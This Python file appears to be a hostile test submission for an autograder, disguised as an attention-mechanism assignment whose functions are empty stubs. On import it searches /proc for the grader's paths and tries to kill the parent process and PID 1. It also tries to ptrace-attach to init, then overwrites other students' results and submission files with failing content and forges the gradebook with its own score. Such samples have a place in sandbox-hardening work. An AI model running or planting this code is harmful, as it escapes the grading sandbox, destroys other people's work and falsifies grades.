# Look through /proc for the grader's processes (cmdline, environ, cwd, root, open
# files, mounts) and use every path found to overwrite other students' submissions,
# their results and the gradebook; signal and trace the namespace's init.
import ctypes
import os
import signal

OUT, SUBMISSIONS = "@@OUT@@", "@@SUBMISSIONS@@"
STUDENTS = "@@STUDENTS@@".split(",")
found, done = set(), []


def _pids():  # where Landlock keeps /proc out (no namespaces), only our own /proc/PID is there
    try:
        return [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        return []


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return b""


def snoop():
    for pid in _pids() + ["self"]:
        for name in ("cmdline", "environ"):
            for part in _read(f"/proc/{pid}/{name}").replace(b"=", b"\0").split(b"\0"):
                if part.startswith(b"/"):
                    found.add(part.decode(errors="replace"))
        for name in ("cwd", "root", "exe"):
            try:
                found.add(os.readlink(f"/proc/{pid}/{name}"))
            except OSError:
                pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                try:
                    found.add(os.readlink(f"/proc/{pid}/fd/{fd}"))
                except OSError:
                    pass
        except OSError:
            pass
    for line in _read("/proc/self/mountinfo").decode(errors="replace").splitlines():
        found.update(w for w in line.split() if w.startswith("/"))
    try:
        os.getppid() and os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    try:
        os.kill(1, signal.SIGKILL)
    except OSError:
        pass
    try:
        ctypes.CDLL(None).ptrace(16, 1, 0, 0)  # PTRACE_ATTACH to the namespace's init
    except Exception:
        pass


def _write(path, text):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
        done.append(path)
    except OSError:
        pass


def attack():
    snoop()
    bases = set()
    for p in found | {OUT, SUBMISSIONS}:
        for via in ("", "/proc/1/root", "/proc/self/root", f"/proc/{os.getppid()}/root"):
            bases.add(via + p)
            bases.add(via + os.path.dirname(p))
    for b in sorted(bases):
        _write(os.path.join(b, "gradebook.csv"), "student,total\nproc_snoop,66\n")
        for s in STUDENTS:
            _write(os.path.join(b, s, "results.json"), '{"score": 0, "tests": []}')
            _write(os.path.join(b, s, "softmax.py"), "raise SystemExit\n")


attack()


def scaled_scores():
    return None


def attention_weights():
    return None


def attention_output():
    return None
